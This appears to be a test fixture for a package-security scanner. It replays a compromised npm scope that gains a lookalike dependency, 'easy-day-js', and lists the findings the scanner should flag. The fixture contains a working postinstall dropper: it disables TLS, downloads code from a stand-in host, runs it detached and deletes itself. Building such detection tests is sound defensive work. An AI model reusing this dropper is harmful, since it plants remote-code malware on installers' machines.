import { colours, durations } from '../plain-modules.js'
import type { Replay, ReplayPackage } from '../replay.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

const file = 'setup.cjs'
const fetched = "https.get('https://203-0-113-7.cdn-day.example/latest', { rejectUnauthorized: false }, (response) => {"
const erase = 'fs.unlinkSync(__filename)'

/** Trusts whoever answers, writes what comes and starts it apart from the install. */
const setup = `const { spawn } = require('child_process')
const fs = require('fs')
const https = require('https')
const os = require('os')
const path = require('path')

process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'

const file = path.join(os.tmpdir(), 'day-cache.js')

${fetched}
  const parts = []
  response.on('data', (part) => parts.push(part))
  response.on('end', () => {
    fs.writeFileSync(file, Buffer.concat(parts))
    spawn(process.execPath, [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref()
    ${erase}
  })
}).on('error', () => {})
`

const command = 'node setup.cjs'
const manifest = { type: 'module', main: 'dist/index.js', dependencies: { zod: '^4.0.0' } }

const honest = { 'dist/index.js': `import { z } from 'zod'\nexport const options = z.object({})\n${colours}` }
const scope = ['@mastra/core', '@mastra/memory', '@mastra/rag']
const asked = { zod: '^4.0.0' }
const askedWithMore = { 'easy-day-js': '^1.11.22', ...asked }
const direct = Object.fromEntries(scope.map((name) => [name, '^1.13.0']))

/** Each came out when it had changed, until the account took them one after the other. */
const released = (index: number): Readonly<Record<string, ReplayPackage>> => ({
  '1.13.0': { published: `2026-06-0${7 + index}T12:00:00Z`, manifest, files: honest },
  '1.13.1': {
    published: `2026-06-17T01:0${index}:00Z`,
    publisher: { name: 'former-contributor' },
    manifest: { ...manifest, dependencies: askedWithMore },
    files: honest,
  },
})

const dropped = (...finding: PackageFinding) => onVersion('easy-day-js', '1.11.22', finding)

export const replay: Replay = {
  description:
    'A former contributor’s account released a whole scope anew, each package with one more dependency that none of them used: its name ' +
    'resembled that of a known library of dates, and its script after installation fetched and started a program.',
  date: '2026-06-17',
  packages: {
    ...Object.fromEntries(scope.map((name, index) => [name, released(index)])),
    dayjs: { '1.11.19': { publisher: { name: 'maker' }, maintainers: ['maker'] } },
    zod: { '4.1.0': { files: { 'index.js': durations } } },
    'easy-day-js': {
      '1.11.22': {
        published: '2026-06-17T00:30:00Z',
        publisher: { name: 'former-contributor' },
        maintainers: ['former-contributor'],
        manifest: { main: 'index.js', scripts: { postinstall: command } },
        files: { 'index.js': durations, [file]: setup },
      },
    },
  },
  base: {
    manifest: { dependencies: direct },
    locked: {
      ...Object.fromEntries(scope.map((name) => [name, { version: '1.13.0', dependencies: asked }])),
      zod: '4.1.0',
    },
  },
  head: {
    manifest: { dependencies: direct },
    locked: {
      ...Object.fromEntries(scope.map((name) => [name, { version: '1.13.1', dependencies: askedWithMore }])),
      'easy-day-js': '1.11.22',
      zod: '4.1.0',
    },
  },
  reviewedAt: '2026-06-17T12:00:00Z',
  expected: {
    verdict: 'flagged',
    findings: [
      ...scope.flatMap((name) => [
        onVersion(name, '1.13.1', ['dependency-phantom', 'high', { file: 'package.json' }]),
        onVersion(name, '1.13.1', ['publisher-changed', 'medium']),
        onVersion(name, '1.13.1', ['release-burst', 'high']),
        onVersion(name, '1.13.1', ['release-fresh', 'medium']),
      ]),
      dropped('install-script-dangerous', 'critical', { file, line: erase }),
      dropped('remote-code-run', 'critical', { file, line: fetched }),
      dropped('combined-risk', 'critical'),
      dropped('scanner-evasion', 'high', { file, line: erase }),
      dropped('install-script-present', 'medium', { file: 'package.json' }),
      dropped('name-resembles-popular', 'medium'),
      dropped('package-young', 'medium'),
      dropped('release-fresh', 'medium'),
    ],
  },
}
